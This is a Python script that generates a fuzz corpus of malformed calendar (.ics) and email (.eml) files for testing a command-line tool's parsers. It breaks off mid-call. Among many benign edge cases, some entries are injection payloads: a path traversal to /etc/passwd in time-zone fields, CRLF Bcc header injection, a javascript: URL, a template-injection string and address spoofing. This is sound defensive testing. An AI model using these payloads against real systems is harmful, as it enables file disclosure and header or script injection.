"""(Re)create tests/fuzz/corpus/: malformed inputs for every command that reads a file.

Run `.venv/bin/python tests/fuzz/make_corpus.py` from the repository root; rerun it after
changing a case and commit both. The JSON, CSV and SQLite files are mutations of three
seeds — a real export (JSON, CSV) and backup of a small home — and by default the seeds are
read back from the committed corpus, so the output is the same bytes whatever followup's
code has become (fixed clock, seeded randomness). `--fresh` makes new seeds from a home
built with the current code (after the export format or the schema changed).

Each file's name says its edge case. One directory per input kind, each run by
tests/fuzz/test_corpus.py through the command that reads it:

    ics/     followup import F --yes        (calendar invitations)
    eml/     followup classify F [--json], followup import F --yes
    json/    followup import F              (mutations of a real `export --format json`)
    csv/     followup import F              (mutations of a real `export --format csv`)
    notes/   followup lint F
    sqlite/  followup restore F --yes       (mutations of a real `backup`)
    toml/    config.toml in the home, then `config show`, `agenda`, `config set`

Files named `seed_*` are good inputs: tests/fuzz/test_hypothesis.py mutates them.
Everything here is written by this script; nothing is copied from third-party corpora
(those are run in place by the tests).
"""

# A table of literal inputs: some lines are longer than the limit on purpose.
# ruff: noqa: E501

from __future__ import annotations

import base64
import contextlib
import copy
import json
import os
import random
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

CORPUS = Path(__file__).resolve().parent / "corpus"
NOW = "2026-11-25T12:00:00Z"
KINDS = ("ics", "eml", "json", "csv", "notes", "sqlite", "toml")

_written: dict[str, int] = {}


def put(kind: str, name: str, data: bytes | str) -> None:
    """Write one corpus file (text as UTF-8, unless bytes are given)."""
    path = CORPUS / kind / name
    if path.exists():
        raise SystemExit(f"duplicate corpus name: {kind}/{name}")
    raw = data.encode("utf-8") if isinstance(data, str) else data
    if len(raw) > 64_000:
        raise SystemExit(f"{kind}/{name} is {len(raw)} bytes: keep corpus files small")
    path.write_bytes(raw)
    _written[kind] = _written.get(kind, 0) + 1


def noise(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


# --- .ics ---------------------------------------------------------------------------------

EVENT = [
    "UID:fuzz-seed-1@corpus.example",
    "SEQUENCE:0",
    "DTSTAMP:20261120T090000Z",
    "DTSTART;TZID=Europe/Berlin:20261201T140000",
    "DTEND;TZID=Europe/Berlin:20261201T150000",
    "SUMMARY:Interview: Backend Engineer at Acme",
    "ORGANIZER;CN=Ada Lovelace:mailto:ada@acme.example",
    "ATTENDEE;CN=Bob Builder;ROLE=REQ-PARTICIPANT:mailto:bob@acme.example",
    "LOCATION:Room 1",
]

BERLIN = [
    "BEGIN:VTIMEZONE",
    "TZID:Europe/Berlin",
    "BEGIN:STANDARD",
    "DTSTART:19701025T030000",
    "RRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU",
    "TZOFFSETFROM:+0200",
    "TZOFFSETTO:+0100",
    "END:STANDARD",
    "BEGIN:DAYLIGHT",
    "DTSTART:19700329T020000",
    "RRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU",
    "TZOFFSETFROM:+0100",
    "TZOFFSETTO:+0200",
    "END:DAYLIGHT",
    "END:VTIMEZONE",
]


def event_lines(set_: dict[str, str | None] | None = None, add: list[str] = ()) -> list[str]:
    """The seed event's lines with properties replaced (None drops one) and lines added."""
    changes = dict(set_ or {})
    out = []
    for line in EVENT:
        name = line.split(":", 1)[0].split(";", 1)[0]
        if name in changes:
            new = changes.pop(name)
            if new is not None:
                out.append(new)
        else:
            out.append(line)
    out += [v for v in changes.values() if v is not None]
    return [*out, *add]


def calendar(
    events: list[list[str]] | None = None,
    timezones: list[str] = (),
    head: list[str] | None = None,
    eol: str = "\r\n",
) -> str:
    lines = head if head is not None else [
        "BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//fuzz//corpus//EN", "METHOD:REQUEST"
    ]  # fmt: skip
    lines = [*lines, *timezones]
    for event in events if events is not None else [event_lines()]:
        lines += ["BEGIN:VEVENT", *event, "END:VEVENT"]
    lines.append("END:VCALENDAR")
    return eol.join(lines) + eol


def ics_event(name: str, set_: dict[str, str | None] | None = None, add: list[str] = ()) -> None:
    put("ics", name, calendar([event_lines(set_, add)]))


def make_ics() -> None:
    seed = calendar()
    put("ics", "seed_invite.ics", seed)
    put("ics", "seed_invite_with_vtimezone.ics", calendar(timezones=BERLIN))
    put("ics", "empty_0_bytes.ics", b"")
    put("ics", "only_whitespace.ics", "\r\n \r\n\t\r\n")
    for cut in (15, 60, 120, 200, 300, len(seed) - 20, len(seed) - 3):
        put("ics", f"truncated_at_byte_{cut}.ics", seed[:cut])
    # Dates and times.
    for label, value in {
        "dtstart_year_0001": "DTSTART:00010101T000000Z",
        "dtstart_year_0001_tzid": "DTSTART;TZID=Europe/Berlin:00010101T000000",
        "dtstart_year_0000": "DTSTART:00000101T000000Z",
        "dtstart_year_9999": "DTSTART:99991231T235959Z",
        "dtstart_year_9999_tzid": "DTSTART;TZID=Europe/Berlin:99991231T233000",
        "dtstart_month_13": "DTSTART:20261301T100000Z",
        "dtstart_feb_30": "DTSTART:20270230T100000Z",
        "dtstart_hour_25": "DTSTART:20261201T250000Z",
        "dtstart_leap_second": "DTSTART:20261231T235960Z",
        "dtstart_garbage": "DTSTART:tomorrow at noon",
        "dtstart_empty": "DTSTART:",
        "dtstart_negative": "DTSTART:-20261201T100000Z",
        "dtstart_five_digit_year": "DTSTART:120261201T100000Z",
        "dtstart_value_date": "DTSTART;VALUE=DATE:20261201",
        "dtstart_value_date_with_time": "DTSTART;VALUE=DATE:20261201T100000Z",
        "dtstart_value_period": "DTSTART;VALUE=PERIOD:20261201T100000Z/PT1H",
        "dtstart_value_unknown": "DTSTART;VALUE=INTEGER:42",
        "dtstart_tzid_and_z": "DTSTART;TZID=Europe/Berlin:20261201T140000Z",
        "dtstart_tzid_unknown": "DTSTART;TZID=Mars/Olympus_Mons:20261201T140000",
        "dtstart_tzid_empty": "DTSTART;TZID=:20261201T140000",
        "dtstart_tzid_path_traversal": "DTSTART;TZID=../../../../etc/passwd:20261201T140000",
        "dtstart_tzid_absolute_path": "DTSTART;TZID=/usr/share/zoneinfo/UTC:20261201T140000",
        "dtstart_tzid_windows_unknown": 'DTSTART;TZID="Nowhere Standard Time":20261201T140000',
        "dtstart_tzid_nul": "DTSTART;TZID=Europe/Ber\x00lin:20261201T140000",
        "dtstart_tzid_4000_chars": "DTSTART;TZID=" + "A" * 4000 + ":20261201T140000",
        "dtstart_twice": "DTSTART:20261201T140000Z\r\nDTSTART:20271201T140000Z",
    }.items():
        ics_event(f"{label}.ics", {"DTSTART": value})
    ics_event("missing_dtstart.ics", {"DTSTART": None})
    ics_event("missing_dtstart_and_dtend.ics", {"DTSTART": None, "DTEND": None})
    ics_event("dtend_before_dtstart.ics", {"DTEND": "DTEND:20261101T100000Z"})
    ics_event("dtend_year_9999.ics", {"DTEND": "DTEND:99991231T235959Z"})
    ics_event("dtend_year_0001.ics", {"DTEND": "DTEND:00010101T000000Z"})
    ics_event("dtend_equals_dtstart.ics", {"DTEND": "DTEND;TZID=Europe/Berlin:20261201T140000"})
    ics_event("dtend_garbage.ics", {"DTEND": "DTEND:soon"})
    ics_event("dtend_date_dtstart_datetime.ics", {"DTEND": "DTEND;VALUE=DATE:20261202"})
    for label, value in {
        "duration_p99999999w": "P99999999W",
        "duration_p9999999999999999999d": "P9999999999999999999D",
        "duration_pt99999999999s": "PT99999999999S",
        "duration_negative": "-PT1H",
        "duration_zero": "PT0S",
        "duration_garbage": "an hour or so",
        "duration_empty": "",
        "duration_p_only": "P",
        "duration_1000_digits": "PT" + "9" * 1000 + "H",
    }.items():
        ics_event(f"{label}.ics", {"DTEND": None, "DURATION": f"DURATION:{value}"})
    ics_event("duration_and_dtend_both.ics", {"DURATION": "DURATION:PT2H"})
    # Identity and sequence.
    ics_event("missing_uid.ics", {"UID": None})
    ics_event("uid_empty.ics", {"UID": "UID:"})
    ics_event("uid_4000_chars.ics", {"UID": "UID:" + "u" * 4000})
    ics_event("uid_crlf_escaped.ics", {"UID": "UID:abc\\r\\nBcc: x@evil.example"})
    ics_event("sequence_negative.ics", {"SEQUENCE": "SEQUENCE:-5"})
    ics_event("sequence_huge.ics", {"SEQUENCE": "SEQUENCE:" + "9" * 40})
    ics_event("sequence_garbage.ics", {"SEQUENCE": "SEQUENCE:latest"})
    # People.
    ics_event("organizer_no_mailto.ics", {"ORGANIZER": "ORGANIZER:Ada Lovelace"})
    ics_event("organizer_mailto_empty.ics", {"ORGANIZER": "ORGANIZER:mailto:"})
    ics_event(
        "organizer_two_mailboxes.ics", {"ORGANIZER": "ORGANIZER:mailto:a@x.example,b@y.example"}
    )
    ics_event(
        "organizer_cn_last_first.ics",
        {"ORGANIZER": 'ORGANIZER;CN="Lovelace, Ada":mailto:ada@acme.example'},
    )
    ics_event("organizer_nul_byte.ics", {"ORGANIZER": "ORGANIZER:mailto:ada\x00@acme.example"})
    ics_event("attendee_garbage.ics", {"ATTENDEE": "ATTENDEE:;;;:::@@@"})
    ics_event(
        "attendee_cn_header_injection.ics",
        {"ATTENDEE": 'ATTENDEE;CN="Bob\\nBcc: x@evil.example":mailto:bob@acme.example'},
    )
    ics_event("attendees_500.ics", {"ATTENDEE": "\r\n".join(
        f"ATTENDEE;CN=Person {i}:mailto:p{i}@acme.example" for i in range(500))})  # fmt: skip
    ics_event(
        "param_unterminated_quote.ics", {"ATTENDEE": 'ATTENDEE;CN="Bob:mailto:bob@acme.example'}
    )
    # Text.
    ics_event("summary_20k_chars.ics", {"SUMMARY": "SUMMARY:" + "Interview " * 2000})
    ics_event("summary_empty.ics", {"SUMMARY": "SUMMARY:"})
    ics_event("missing_summary.ics", {"SUMMARY": None})
    ics_event("summary_control_chars.ics", {"SUMMARY": "SUMMARY:Inter\x01\x02\x1b[31mview\x7f"})
    ics_event("summary_nul_bytes.ics", {"SUMMARY": "SUMMARY:Interview\x00\x00 at Acme"})
    ics_event(
        "summary_jinja_template.ics", {"SUMMARY": "SUMMARY:{{ 7*7 }} {% for x in range(9**9) %}"}
    )
    ics_event("summary_bidi_overrides.ics", {"SUMMARY": "SUMMARY:Interview \u202eemcA\u202c"})
    ics_event("location_javascript_url.ics", {"LOCATION": "LOCATION:javascript:alert(1)"})
    ics_event("description_escapes_broken.ics", {"LOCATION": "DESCRIPTION:a\\;b\\,c\\"})
    ics_event("property_without_colon.ics", add=["X-BROKEN-PROPERTY"])
    ics_event("property_name_empty.ics", add=[":value with no name"])
    ics_event("rrule_infinite_secondly.ics", add=["RRULE:FREQ=SECONDLY"])
    ics_event("rrule_garbage.ics", add=["RRULE:FREQ=NEVER;COUNT=-1;BYDAY=XX"])
    ics_event("exdate_garbage.ics", add=["EXDATE:not-a-date"])
    ics_event("rdate_3000.ics", add=["RDATE:" + ",".join(["20261201T100000Z"] * 3000)])
    ics_event("status_cancelled.ics", add=["STATUS:CANCELLED"])
    ics_event("status_garbage.ics", add=["STATUS:MAYBE-LATER"])
    ics_event("valarm_broken.ics", add=["BEGIN:VALARM", "TRIGGER:-PX", "END:VALARM"])
    # Structure.
    put("ics", "missing_vevent.ics", calendar(events=[]))
    put("ics", "missing_begin_vcalendar.ics", calendar().split("\r\n", 1)[1])
    put("ics", "missing_end_vcalendar.ics", calendar().replace("END:VCALENDAR\r\n", ""))
    put("ics", "missing_end_vevent.ics", calendar().replace("END:VEVENT\r\n", ""))
    put("ics", "end_without_begin.ics", "END:VEVENT\r\nEND:VCALENDAR\r\n")
    put("ics", "end_mismatched.ics", calendar().replace("END:VEVENT", "END:VTODO"))
    put("ics", "method_cancel.ics", calendar().replace("METHOD:REQUEST", "METHOD:CANCEL"))
    put("ics", "method_garbage.ics", calendar().replace("METHOD:REQUEST", "METHOD:\x00\xff"))
    put(
        "ics",
        "nested_vcalendar.ics",
        calendar().replace("BEGIN:VEVENT", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT", 1),
    )
    put(
        "ics",
        "vevent_inside_vevent.ics",
        calendar([event_lines(add=["BEGIN:VEVENT", *EVENT, "END:VEVENT"])]),
    )
    deep = ["BEGIN:X-DEEP"] * 2000 + ["END:X-DEEP"] * 2000
    put("ics", "components_nested_2000_deep.ics", calendar([event_lines(add=deep)]))
    put("ics", "two_calendars_concatenated.ics", calendar() + calendar())
    put(
        "ics",
        "vtodo_only.ics",
        calendar([]).replace(
            "END:VCALENDAR", "BEGIN:VTODO\r\nUID:t\r\nSUMMARY:todo\r\nEND:VTODO\r\nEND:VCALENDAR"
        ),
    )
    put("ics", "events_250.ics", calendar([
        event_lines({"UID": f"UID:fuzz-{i}@corpus.example",
                     "DTSTART": f"DTSTART:2026{1 + i % 12:02d}{1 + i % 28:02d}T100000Z",
                     "DTEND": None, "ATTENDEE": None, "LOCATION": None})
        for i in range(250)]))  # fmt: skip
    # Time zones.
    recursive = [
        "BEGIN:VTIMEZONE", "TZID:Europe/Berlin", *BERLIN, "BEGIN:STANDARD",
        "DTSTART:19701025T030000", "TZOFFSETFROM:+0200", "TZOFFSETTO:+0100", "END:STANDARD",
        "END:VTIMEZONE",
    ]  # fmt: skip
    put("ics", "vtimezone_recursive.ics", calendar(timezones=recursive))
    put(
        "ics",
        "vtimezone_nested_500_deep.ics",
        calendar(
            timezones=["BEGIN:VTIMEZONE", "TZID:Europe/Berlin"] * 500 + ["END:VTIMEZONE"] * 500
        ),
    )
    put(
        "ics",
        "vtimezone_without_observances.ics",
        calendar(timezones=["BEGIN:VTIMEZONE", "TZID:Europe/Berlin", "END:VTIMEZONE"]),
    )
    put(
        "ics",
        "vtimezone_offset_plus_9999.ics",
        calendar(timezones=[line.replace("+0200", "+9999") for line in BERLIN]),
    )
    put(
        "ics",
        "vtimezone_offset_garbage.ics",
        calendar(timezones=[line.replace("+0200", "two hours") for line in BERLIN]),
    )
    put(
        "ics",
        "vtimezone_rrule_secondly.ics",
        calendar(
            timezones=[
                line.replace("FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU", "FREQ=SECONDLY") for line in BERLIN
            ]
        ),
    )
    put(
        "ics",
        "vtimezone_dtstart_year_0001.ics",
        calendar(timezones=[line.replace("19700329T020000", "00010101T000000") for line in BERLIN]),
    )
    put(
        "ics",
        "vtimezone_rdate_3000.ics",
        calendar(
            timezones=[
                *BERLIN[:-1],
                "BEGIN:STANDARD",
                "DTSTART:19700101T000000",
                "RDATE:" + ",".join(f"{1971 + i % 300}0101T000000" for i in range(3000)),
                "TZOFFSETFROM:+0100",
                "TZOFFSETTO:+0100",
                "END:STANDARD",
                "END:VTIMEZONE",
            ]
        ),
    )
    put(
        "ics",
        "vtimezone_tzid_mismatch.ics",
        calendar(
            timezones=[line.replace("TZID:Europe/Berlin", "TZID:Custom Zone") for line in BERLIN]
        ),
    )
    put("ics", "vtimezone_custom_tzid_used.ics", calendar(
        [event_lines({"DTSTART": "DTSTART;TZID=Custom Zone:20261201T140000", "DTEND": "DTEND;TZID=Custom Zone:20261201T150000"})],
        timezones=[line.replace("TZID:Europe/Berlin", "TZID:Custom Zone") for line in BERLIN]))  # fmt: skip
    put(
        "ics",
        "x_wr_timezone_unknown.ics",
        calendar(
            head=["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:x", "X-WR-TIMEZONE:Atlantis/Capital"],
            events=[
                event_lines(
                    {"DTSTART": "DTSTART:20261201T140000", "DTEND": "DTEND:20261201T150000"}
                )
            ],
        ),
    )
    put(
        "ics",
        "x_wr_timezone_path_traversal.ics",
        calendar(
            head=[
                "BEGIN:VCALENDAR",
                "VERSION:2.0",
                "PRODID:x",
                "X-WR-TIMEZONE:../../../etc/localtime",
            ],
            events=[
                event_lines(
                    {"DTSTART": "DTSTART:20261201T140000", "DTEND": "DTEND:20261201T150000"}
                )
            ],
        ),
    )
    # Encodings and line endings.
    put("ics", "utf8_bom.ics", b"\xef\xbb\xbf" + seed.encode())
    put("ics", "utf16_le_bom.ics", seed.encode("utf-16"))
    put("ics", "utf16_be_no_bom.ics", seed.encode("utf-16-be"))
    put("ics", "utf32.ics", seed.encode("utf-32"))
    put(
        "ics",
        "non_utf8_latin1_summary.ics",
        calendar([event_lines({"SUMMARY": "SUMMARY:Entretien chez Société Générale"})]).encode(
            "latin-1"
        ),
    )
    put("ics", "non_utf8_invalid_bytes.ics", seed.encode().replace(b"Acme", b"Ac\xff\xfe\xc3me"))
    put("ics", "lf_only.ics", seed.replace("\r\n", "\n"))
    put("ics", "cr_only.ics", seed.replace("\r\n", "\r"))
    put(
        "ics",
        "crlf_lf_mixed.ics",
        "".join(line + ("\r\n" if i % 2 else "\n") for i, line in enumerate(seed.split("\r\n"))),
    )
    put(
        "ics",
        "lines_folded_every_char.ics",
        "\r\n".join("\r\n ".join(line) for line in seed.split("\r\n")),
    )
    put(
        "ics",
        "folded_mid_utf8_char.ics",
        calendar([event_lines({"SUMMARY": "SUMMARY:Entretien chez Soci"})])
        .encode()
        .replace(b"Soci", b"Soci\xc3\r\n \xa9t\xc3\xa9"),
    )
    put(
        "ics",
        "folded_with_tab.ics",
        seed.replace("SUMMARY:Interview: ", "SUMMARY:Interview:\r\n\t "),
    )
    put("ics", "fold_at_start_of_file.ics", " " + seed)
    put("ics", "folded_empty_continuations.ics", seed.replace("\r\n", "\r\n \r\n ", 5))
    put("ics", "nul_bytes_everywhere.ics", seed.replace("\r\n", "\x00\r\n"))
    put("ics", "binary_random_4k.ics", noise(1, 4096))
    put("ics", "binary_with_begin_vcalendar.ics", b"BEGIN:VCALENDAR\r\n" + noise(2, 2048))
    put("ics", "html_page_not_calendar.ics", "<!doctype html><html><body>Moved</body></html>")
    put("ics", "eml_saved_as_ics.ics", "From: a@b.example\r\nSubject: hi\r\n\r\nhello\r\n")
    put(
        "ics", "very_long_line_50k.ics", seed.replace("LOCATION:Room 1", "LOCATION:" + "x" * 50_000)
    )


# --- .eml ---------------------------------------------------------------------------------

REPLY = (
    "From: Ada Lovelace <ada@acme.example>\r\n"
    "To: Jamie <jamie@home.example>\r\n"
    "Subject: Re: Thank you for Monday's interview\r\n"
    "Date: Wed, 25 Nov 2026 10:00:00 +0100\r\n"
    "Message-ID: <reply-1@acme.example>\r\n"
    "In-Reply-To: <20261124100000.a1b2c3d4e5f60718@home.example>\r\n"
    "References: <20261124100000.a1b2c3d4e5f60718@home.example>\r\n"
    "MIME-Version: 1.0\r\n"
    "Content-Type: text/plain; charset=utf-8\r\n"
    "\r\n"
    "Hi Jamie,\r\n\r\nthanks, we will be in touch next week.\r\n\r\nAda\r\n"
)

OOO = (
    "From: Ada Lovelace <ada@acme.example>\r\n"
    "To: jamie@home.example\r\n"
    "Subject: Automatic reply: Thank you\r\n"
    "Date: Wed, 25 Nov 2026 10:00:00 +0100\r\n"
    "Message-ID: <ooo-1@acme.example>\r\n"
    "In-Reply-To: <20261124100000.a1b2c3d4e5f60718@home.example>\r\n"
    "Auto-Submitted: auto-replied\r\n"
    "Content-Type: text/plain; charset=utf-8\r\n"
    "\r\n"
    "I am out of the office until 7 December and will reply when I am back.\r\n"
)


def dsn(
    fields: str, report_type: str = "delivery-status", part: str = "message/delivery-status"
) -> str:
    return (
        "From: MAILER-DAEMON@mail.home.example (Mail Delivery System)\r\n"
        "To: jamie@home.example\r\n"
        "Subject: Undelivered Mail Returned to Sender\r\n"
        "Date: Wed, 25 Nov 2026 11:00:05 +0100\r\n"
        "Message-ID: <dsn-1@mail.home.example>\r\n"
        "Auto-Submitted: auto-replied\r\n"
        "MIME-Version: 1.0\r\n"
        f'Content-Type: multipart/report; report-type={report_type}; boundary="B"\r\n'
        "\r\n"
        "--B\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n"
        f"--B\r\nContent-Type: {part}\r\n\r\n{fields}\r\n"
        "--B\r\nContent-Type: message/rfc822\r\n\r\n"
        "Message-ID: <20261124100000.a1b2c3d4e5f60718@home.example>\r\n"
        "From: jamie@home.example\r\nTo: ada@acme.example\r\nSubject: Thank you\r\n\r\nHi\r\n"
        "--B--\r\n"
    )


DSN_FIELDS = (
    "Reporting-MTA: dns; mail.home.example\r\n\r\n"
    "Final-Recipient: rfc822; ada@acme.example\r\n"
    "Original-Recipient: rfc822;ada@acme.example\r\n"
    "Action: failed\r\nStatus: 5.1.1\r\n"
)


def invite_eml(
    ics: str | bytes,
    ctype: str = 'text/calendar; method=REQUEST; charset="utf-8"',
    cte: str = "base64",
) -> bytes:
    raw = ics.encode() if isinstance(ics, str) else ics
    body = base64.encodebytes(raw) if cte == "base64" else raw
    return (
        b"From: Rita Recruiter <rita@acme.example>\r\n"
        b"To: Jamie <jamie@home.example>\r\n"
        b"Subject: Invitation: Interview\r\n"
        b"Date: Fri, 20 Nov 2026 10:04:31 +0100\r\n"
        b"Message-ID: <invite-1@acme.example>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="I"\r\n\r\n'
        b"--I\r\nContent-Type: text/plain\r\n\r\nYou are invited.\r\n"
        + f"--I\r\nContent-Type: {ctype}\r\nContent-Transfer-Encoding: {cte}\r\n\r\n".encode()
        + body
        + b"\r\n--I--\r\n"
    )


def with_header(message: str, header: str) -> str:
    return header + "\r\n" + message


def replace_header(message: str, name: str, line: str) -> str:
    out = []
    for row in message.split("\r\n"):
        out.append(line if row.lower().startswith(name.lower() + ":") else row)
    return "\r\n".join(out)


def make_eml() -> None:
    put("eml", "seed_human_reply.eml", REPLY)
    put("eml", "seed_out_of_office.eml", OOO)
    put("eml", "seed_dsn_bounce.eml", dsn(DSN_FIELDS))
    put("eml", "seed_invite_synthesized.eml", invite_eml(calendar()))
    put("eml", "empty_0_bytes.eml", b"")
    put("eml", "only_blank_lines.eml", "\r\n\r\n\r\n")
    put("eml", "body_only_no_headers.eml", "\r\nJust a body, no headers at all.\r\n")
    put("eml", "header_without_colon.eml", "This is not a header\r\nFrom: a@b.example\r\n\r\nx\r\n")
    put("eml", "header_name_only.eml", "From:\r\nSubject:\r\nMessage-ID:\r\n\r\n")
    put("eml", "header_continuation_first.eml", " folded first line\r\n" + REPLY)
    put(
        "eml",
        "nul_bytes_in_headers.eml",
        REPLY.replace("Re: Thank", "Re:\x00 Thank").replace("ada@acme", "ada\x00@acme"),
    )
    put("eml", "nul_bytes_in_body.eml", REPLY.replace("thanks", "tha\x00\x00nks"))
    put(
        "eml",
        "subject_48k_chars.eml",
        replace_header(REPLY, "Subject", "Subject: " + "Re: " * 12_000),
    )
    put(
        "eml",
        "subject_folded_5000_times.eml",
        replace_header(REPLY, "Subject", "Subject: " + "\r\n x" * 5000),
    )
    put("eml", "headers_5000.eml", "".join(f"X-H{i}: v\r\n" for i in range(5000)) + REPLY)
    put(
        "eml",
        "header_value_crlf_crlf_injection.eml",
        replace_header(REPLY, "Subject", "Subject: =?utf-8?q?hi=0D=0ABcc:_x@evil.example?="),
    )
    for label, word in {
        "encoded_word_bad_base64": "=?utf-8?b?!!!not*base64?=",
        "encoded_word_base64_no_padding": "=?utf-8?b?SGVsbG?=",
        "encoded_word_unknown_charset": "=?x-klingon?q?Qapla?=",
        "encoded_word_charset_with_star_lang": "=?utf-8*en?q?hello?=",
        "encoded_word_unterminated": "=?utf-8?q?never ends",
        "encoded_word_bad_qp": "=?utf-8?q?=ZZ=E=?=",
        "encoded_word_invalid_utf8": "=?utf-8?b?/+/+?=",
        "encoded_word_nul": "=?utf-8?q?a=00b?=",
        "encoded_word_utf7": "=?utf-7?q?+AGEAYgBj-?=",
        "encoded_word_empty": "=?utf-8?q??=",
        "encoded_word_3000_adjacent": " ".join(["=?utf-8?q?=C3=A9?="] * 3000),
        "encoded_word_nested": "=?utf-8?b?"
        + base64.b64encode(b"=?utf-8?q?=0D=0A?=").decode()
        + "?=",
    }.items():
        put("eml", f"{label}.eml", replace_header(REPLY, "Subject", f"Subject: {word}"))
    put(
        "eml",
        "from_encoded_word_with_at.eml",
        replace_header(
            REPLY, "From", "From: =?utf-8?q?evil=40attacker.example?= <ada@acme.example>"
        ),
    )
    put("eml", "from_empty.eml", replace_header(REPLY, "From", "From: "))
    put(
        "eml",
        "from_group_syntax.eml",
        replace_header(REPLY, "From", "From: Recruiting: a@acme.example, b@acme.example;"),
    )
    put(
        "eml",
        "from_unclosed_angle.eml",
        replace_header(REPLY, "From", "From: Ada <ada@acme.example"),
    )
    put(
        "eml",
        "from_2000_mailboxes.eml",
        replace_header(
            REPLY, "From", "From: " + ", ".join(f"p{i}@acme.example" for i in range(400))
        ),
    )
    put(
        "eml",
        "from_last_first_unquoted.eml",
        replace_header(REPLY, "From", "From: Lovelace, Ada <ada@acme.example>"),
    )
    put("eml", "date_garbage.eml", replace_header(REPLY, "Date", "Date: the day after tomorrow"))
    put(
        "eml",
        "date_year_0000.eml",
        replace_header(REPLY, "Date", "Date: Sat, 01 Jan 0000 00:00:00 +0000"),
    )
    put(
        "eml",
        "date_year_9999_max_offset.eml",
        replace_header(REPLY, "Date", "Date: Fri, 31 Dec 9999 23:59:59 -2359"),
    )
    put(
        "eml",
        "date_year_0001_plus_offset.eml",
        replace_header(REPLY, "Date", "Date: Mon, 01 Jan 0001 00:00:00 +2359"),
    )
    put(
        "eml",
        "date_offset_plus_9999.eml",
        replace_header(REPLY, "Date", "Date: Wed, 25 Nov 2026 10:00:00 +9999"),
    )
    put(
        "eml",
        "date_day_99.eml",
        replace_header(REPLY, "Date", "Date: Wed, 99 Nov 2026 10:00:00 +0100"),
    )
    put(
        "eml",
        "ooo_missing_date_return_feb_30.eml",
        replace_header(OOO, "Date", "X-No-Date: 1").replace("7 December", "30 February"),
    )
    put("eml", "ooo_return_date_year_99999.eml", OOO.replace("7 December", "7 December 99999"))
    put("eml", "ooo_return_date_year_0001.eml", OOO.replace("7 December", "1 January 0001"))
    put("eml", "ooo_return_date_numeric_garbage.eml", OOO.replace("7 December", "99/99/9999"))
    put(
        "eml",
        "ooo_on_date_9999_12_31.eml",
        replace_header(OOO, "Date", "Date: Fri, 31 Dec 9999 23:00:00 +0000").replace(
            "7 December", "2 January"
        ),
    )
    put(
        "eml",
        "message_id_5000_chars.eml",
        replace_header(REPLY, "Message-ID", "Message-ID: <" + "m" * 5000 + "@acme.example>"),
    )
    put(
        "eml",
        "references_3000_ids.eml",
        replace_header(
            REPLY, "References", "References: " + " ".join(f"<r{i}@x.example>" for i in range(3000))
        ),
    )
    put(
        "eml",
        "in_reply_to_garbage.eml",
        replace_header(REPLY, "In-Reply-To", "In-Reply-To: <<<>>> <@> <a b@c>"),
    )
    put(
        "eml",
        "undeclared_latin1_headers.eml",
        REPLY.replace("Thank you", "Merci à vous").encode("latin-1"),
    )
    put(
        "eml",
        "undeclared_invalid_utf8_headers.eml",
        REPLY.encode().replace(b"Thank", b"\xff\xfe\xfd"),
    )
    put("eml", "utf16_whole_message.eml", REPLY.encode("utf-16"))
    put("eml", "lf_only.eml", REPLY.replace("\r\n", "\n"))
    put("eml", "cr_only.eml", REPLY.replace("\r\n", "\r"))
    put("eml", "binary_random_4k.eml", noise(3, 4096))
    # MIME.
    mp = REPLY.replace(
        "Content-Type: text/plain; charset=utf-8",
        'Content-Type: multipart/alternative; boundary="X"',
    )
    body = "--X\r\nContent-Type: text/plain\r\n\r\nhello\r\n--X--\r\n"
    head = mp.split("\r\n\r\n", 1)[0] + "\r\n\r\n"
    put("eml", "mime_missing_boundary.eml", head.replace('; boundary="X"', "") + body)
    put("eml", "mime_boundary_never_closes.eml", head + body.replace("--X--", "--X"))
    put("eml", "mime_boundary_empty.eml", head.replace('boundary="X"', 'boundary=""') + body)
    put("eml", "mime_boundary_not_in_body.eml", head.replace('boundary="X"', 'boundary="Y"') + body)
    put(
        "eml",
        "mime_nested_300_deep.eml",
        head
        + "".join(
            f'--X{i}\r\nContent-Type: multipart/mixed; boundary="X{i + 1}"\r\n\r\n'
            for i in range(300)
        ).replace("--X0", "--X", 1),
    )
    put(
        "eml",
        "mime_parts_1500.eml",
        head
        + "".join("--X\r\nContent-Type: text/plain\r\n\r\np\r\n" for _ in range(1500))
        + "--X--\r\n",
    )
    put(
        "eml",
        "mime_content_type_garbage.eml",
        replace_header(REPLY, "Content-Type", "Content-Type: ;;;===/// charset"),
    )
    put(
        "eml",
        "mime_charset_unknown.eml",
        replace_header(REPLY, "Content-Type", "Content-Type: text/plain; charset=x-unknown-42"),
    )
    put(
        "eml",
        "mime_charset_utf7.eml",
        replace_header(REPLY, "Content-Type", "Content-Type: text/plain; charset=utf-7"),
    )
    put(
        "eml",
        "mime_cte_unknown.eml",
        replace_header(REPLY, "MIME-Version", "Content-Transfer-Encoding: x-rot13"),
    )
    put(
        "eml",
        "mime_base64_garbage.eml",
        replace_header(REPLY, "MIME-Version", "Content-Transfer-Encoding: base64").replace(
            "thanks, we will", "!!!***"
        ),
    )
    put(
        "eml",
        "mime_qp_garbage.eml",
        replace_header(
            REPLY, "MIME-Version", "Content-Transfer-Encoding: quoted-printable"
        ).replace("thanks", "=ZZ=\r\n=4"),
    )
    put(
        "eml",
        "mime_param_rfc2231_broken.eml",
        replace_header(
            REPLY, "Content-Type", "Content-Type: text/plain; charset*=''%ZZ; charset*0*=x'y'%"
        ),
    )
    put(
        "eml",
        "html_only_deep_nesting.eml",
        replace_header(REPLY, "Content-Type", "Content-Type: text/html").replace(
            "thanks, we will be in touch next week.", "<div>" * 5000 + "hi" + "<blockquote>" * 2000
        ),
    )
    put(
        "eml",
        "html_unclosed_comment.eml",
        replace_header(REPLY, "Content-Type", "Content-Type: text/html").replace(
            "thanks", "<!-- never closed <script>"
        ),
    )
    put(
        "eml",
        "message_rfc822_empty.eml",
        head.replace("multipart/alternative", "multipart/mixed")
        + "--X\r\nContent-Type: message/rfc822\r\n\r\n--X--\r\n",
    )
    put(
        "eml",
        "message_rfc822_nested_50.eml",
